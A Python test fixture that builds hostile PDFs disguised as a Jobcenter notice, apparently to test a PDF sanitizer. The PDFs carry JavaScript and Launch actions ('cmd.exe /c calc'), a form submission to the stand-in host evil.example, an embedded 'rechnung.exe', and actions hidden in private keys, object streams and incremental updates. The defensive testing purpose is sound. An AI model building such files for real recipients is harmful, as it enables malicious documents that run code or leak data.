"""A corpus of hostile PDFs, built in memory.

Every file draws the same visible text (``VISIBLE_TEXT``) with a standard
font, an image and a form XObject, and carries one kind of active content or
hidden data. Each hostile string contains ``MARKER`` so that a test can look
for it anywhere in the sanitized copy, decoded.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

VISIBLE_TEXT = "Bescheid vom Jobcenter Musterstadt"
MARKER = "EVIL-MARKER"


def _js(text: str = "app.alert('x')") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(f"{text} // {MARKER}"))


def _launch() -> Dictionary:
    return Dictionary(
        S=Name.Launch,
        Win=Dictionary(F=String("cmd.exe"), P=String(f"/c calc {MARKER}")),
        F=String(f"cmd.exe {MARKER}"),
    )


def _jpeg() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), (10, 120, 200)).save(out, format="JPEG")
    return out.getvalue()


def base_pdf() -> pikepdf.Pdf:
    """One page that draws text with Helvetica, a JPEG and a form XObject."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[0]
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )
    image = pdf.make_stream(
        _jpeg(),
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=8,
        Height=8,
        ColorSpace=Name.DeviceRGB,
        BitsPerComponent=8,
        Filter=Name.DCTDecode,
    )
    form = pdf.make_stream(
        b"0 0 1 rg 0 0 10 10 re f",
        Type=Name.XObject,
        Subtype=Name.Form,
        BBox=Array([0, 0, 10, 10]),
        Resources=Dictionary(),
    )
    page.obj.Resources = Dictionary(
        Font=Dictionary(F1=font), XObject=Dictionary(Im1=image, Fx1=form)
    )
    page.obj.Contents = pdf.make_stream(
        f"BT /F1 18 Tf 72 760 Td ({VISIBLE_TEXT}) Tj ET "
        "q 40 0 0 40 72 600 cm /Im1 Do Q q 72 500 cm /Fx1 Do Q".encode()
    )
    return pdf


def _save(pdf: pikepdf.Pdf, **options) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def open_action() -> bytes:
    pdf = base_pdf()
    pdf.Root.OpenAction = _js()
    pdf.Root.AA = Dictionary(WC=_js("closing"))
    return _save(pdf)


def page_additional_actions() -> bytes:
    pdf = base_pdf()
    pdf.pages[0].obj.AA = Dictionary(O=_launch(), C=_js())
    return _save(pdf)


def _widget(pdf: pikepdf.Pdf, action: Dictionary, follow_up: Dictionary) -> Dictionary:
    widget = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Btn,
            T=String("ok"),
            Rect=Array([72, 100, 200, 130]),
            A=action,
            AA=Dictionary(U=follow_up, Fo=_js("focus")),
            P=pdf.pages[0].obj,
        )
    )
    pdf.pages[0].obj.Annots = Array([widget])
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]), XFA=String(f"<xdp>{MARKER}</xdp>"))
    return widget


def widget_actions() -> bytes:
    pdf = base_pdf()
    _widget(pdf, _launch(), _launch())
    return _save(pdf)


def submit_form() -> bytes:
    pdf = base_pdf()
    submit = Dictionary(
        S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String(f"https://evil.example/{MARKER}"))
    )
    _widget(pdf, submit, Dictionary(S=Name.ImportData, F=String(f"data-{MARKER}.fdf")))
    return _save(pdf)


def outlines_with_next_chains() -> bytes:
    pdf = base_pdf()
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=2))
    first = pdf.make_indirect(
        Dictionary(
            Title=String(f"Kapitel 1 {MARKER}"),
            Parent=outlines,
            A=Dictionary(
                S=Name.GoTo,
                D=Array([pdf.pages[0].obj, Name.Fit]),
                Next=Array([_js(), Dictionary(S=Name.Launch, F=String(f"cmd.exe {MARKER}"))]),
            ),
        )
    )
    second = pdf.make_indirect(
        Dictionary(Title=String("Kapitel 2"), Parent=outlines, Prev=first, A=_launch())
    )
    first.Next = second
    outlines.First, outlines.Last = first, second
    pdf.Root.Outlines = outlines
    return _save(pdf)


def link_annotations() -> bytes:
    """Links with URI, GoToR and a JavaScript hidden in a /Next chain."""
    pdf = base_pdf()
    uri = Dictionary(S=Name.URI, URI=String(f"https://evil.example/{MARKER}"), Next=_js("chained"))
    remote = Dictionary(S=Name.GoToR, F=String(f"other-{MARKER}.pdf"), D=Array([0, Name.Fit]))
    pdf.pages[0].obj.Annots = Array(
        [
            pdf.make_indirect(
                Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 50, 50]), A=a)
            )
            for a in (uri, remote)
        ]
    )
    return _save(pdf)


def names_tree() -> bytes:
    """Document-level JavaScript and an embedded file in the names tree."""
    pdf = base_pdf()
    payload = pdf.make_stream(f"MZ payload {MARKER}".encode(), Type=Name.EmbeddedFile)
    spec = Dictionary(Type=Name.Filespec, F=String("rechnung.exe"), EF=Dictionary(F=payload))
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("init"), pdf.make_indirect(_js())])),
        EmbeddedFiles=Dictionary(Names=Array([String("rechnung.exe"), spec])),
    )
    return _save(pdf)


def attachments_and_rich_media() -> bytes:
    pdf = base_pdf()
    payload = pdf.make_stream(f"attached {MARKER}".encode(), Type=Name.EmbeddedFile)
    attachment = Dictionary(
        Type=Name.Annot,
        Subtype=Name.FileAttachment,
        Rect=Array([0, 0, 20, 20]),
        FS=Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=payload)),
    )
    flash = pdf.make_stream(f"FWS {MARKER}".encode())
    rich_media = Dictionary(
        Type=Name.Annot,
        Subtype=Name.RichMedia,
        Rect=Array([0, 0, 20, 20]),
        RichMediaContent=Dictionary(
            Assets=Dictionary(Names=Array([String("x.swf"), Dictionary(EF=Dictionary(F=flash))]))
        ),
        RichMediaSettings=Dictionary(Activation=Dictionary(Condition=Name.PO)),
    )
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(attachment), pdf.make_indirect(rich_media)])
    return _save(pdf)


def metadata() -> bytes:
    pdf = base_pdf()
    with pdf.open_metadata(set_pikepdf_as_editor=False) as meta:
        meta["dc:creator"] = [f"Sachbearbeiter {MARKER}"]
    pdf.docinfo["/Author"] = String(f"Frau Muster {MARKER}")
    pdf.docinfo["/Producer"] = String("Jobcenter Scanner")
    return _save(pdf)


def hostile_resources() -> bytes:
    """Keys that do not belong in resources: an action on a font, metadata
    and an external file reference on an image, JavaScript on a form XObject."""
    pdf = base_pdf()
    resources = pdf.pages[0].obj.Resources
    resources.Font.F1.AA = Dictionary(O=_js())
    image = resources.XObject.Im1
    image.Metadata = pdf.make_stream(f"<x:xmpmeta>{MARKER}</x:xmpmeta>".encode())
    image.F = String(f"file-{MARKER}.jpg")
    resources.XObject.Fx1.OpenAction = _js()
    resources.XObject.Fx1.PieceInfo = Dictionary(Editor=Dictionary(Private=String(MARKER)))
    return _save(pdf)


def hostile_values_under_private_keys() -> bytes:
    """Actions and scripts under keys no deny-list would name: a private key
    on a font, an action as a marked-content property, a graphics state
    holding a GoToR, a PostScript XObject, a bare string in a font map."""
    pdf = base_pdf()
    resources = pdf.pages[0].obj.Resources
    resources.Font.F1.Private = _launch()
    resources.Properties = Dictionary(MC0=pdf.make_indirect(_js()))
    resources.ExtGState = Dictionary(
        GS1=Dictionary(
            Type=Name.ExtGState,
            CA=1,
            Hidden=Dictionary(S=Name.GoToR, F=String(f"other-{MARKER}.pdf")),
        )
    )
    resources.XObject.PS1 = pdf.make_stream(
        f"%!PS {MARKER}".encode(), Type=Name.XObject, Subtype=Name.PS
    )
    resources.XObject.Fx1.Resources = Dictionary(Font=Dictionary(Bad=String(MARKER)))
    page = pdf.pages[0].obj
    page.Contents = pdf.make_stream(
        page.Contents.read_bytes() + b" /GS1 gs /OC /MC0 BDC EMC /PS1 Do"
    )
    return _save(pdf)


def other_actions() -> bytes:
    """The remaining action types: printing on open (Named), hiding fields,
    switching layers, resetting forms, opening an embedded document."""
    pdf = base_pdf()
    pdf.pages[0].obj.AA = Dictionary(
        O=Dictionary(S=Name.Named, N=Name.Print, Next=Dictionary(S=Name.ResetForm))
    )
    actions = [
        Dictionary(S=Name.Hide, T=String(f"field-{MARKER}")),
        Dictionary(S=Name.SetOCGState, State=Array([Name.OFF])),
        Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String(f"inner-{MARKER}.pdf"))),
    ]
    pdf.pages[0].obj.Annots = Array(
        [
            pdf.make_indirect(
                Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=a)
            )
            for a in actions
        ]
    )
    return _save(pdf)


def object_streams() -> bytes:
    """Active content packed into compressed object streams."""
    pdf = pikepdf.open(io.BytesIO(outlines_with_next_chains()))
    pdf.Root.OpenAction = pdf.make_indirect(_js())
    return _save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)


def incremental_update() -> bytes:
    """A clean first revision, then an appended revision whose catalogue adds
    an OpenAction with JavaScript (a classic cross-reference section with
    ``/Prev`` pointing back)."""
    first = _save(base_pdf(), object_stream_mode=pikepdf.ObjectStreamMode.disable)
    with pikepdf.open(io.BytesIO(first)) as pdf:
        size = int(pdf.trailer.Size)
        root_num = pdf.Root.objgen[0]
        pages_num = pdf.Root.Pages.objgen[0]
    prev = int(re.findall(rb"startxref\s+(\d+)", first)[-1])
    js_num = size
    body = b""
    offsets = {}
    offsets[js_num] = len(first) + len(body)
    body += (
        f"{js_num} 0 obj\n<< /S /JavaScript /JS (app.alert\\('{MARKER}'\\)) >>\nendobj\n"
    ).encode()
    offsets[root_num] = len(first) + len(body)
    body += (
        f"{root_num} 0 obj\n<< /Type /Catalog /Pages {pages_num} 0 R "
        f"/OpenAction {js_num} 0 R >>\nendobj\n"
    ).encode()
    xref_at = len(first) + len(body)
    xref = "xref\n0 1\n0000000000 65535 f \n"
    for num in sorted(offsets):
        xref += f"{num} 1\n{offsets[num]:010d} 00000 n \n"
    trailer = (
        f"trailer\n<< /Size {size + 1} /Root {root_num} 0 R /Prev {prev} >>\n"
        f"startxref\n{xref_at}\n%%EOF\n"
    )
    return first + body + (xref + trailer).encode()


CORPUS: dict[str, Callable[[], bytes]] = {
    "open_action": open_action,
    "page_additional_actions": page_additional_actions,
    "widget_actions": widget_actions,
    "submit_form_import_data": submit_form,
    "outlines_with_next_chains": outlines_with_next_chains,
    "links_uri_gotor_next": link_annotations,
    "names_tree_javascript_and_files": names_tree,
    "attachments_and_rich_media": attachments_and_rich_media,
    "xmp_and_info_metadata": metadata,
    "hostile_keys_in_resources": hostile_resources,
    "hostile_values_under_private_keys": hostile_values_under_private_keys,
    "other_actions": other_actions,
    "object_streams": object_streams,
    "incremental_update": incremental_update,
}
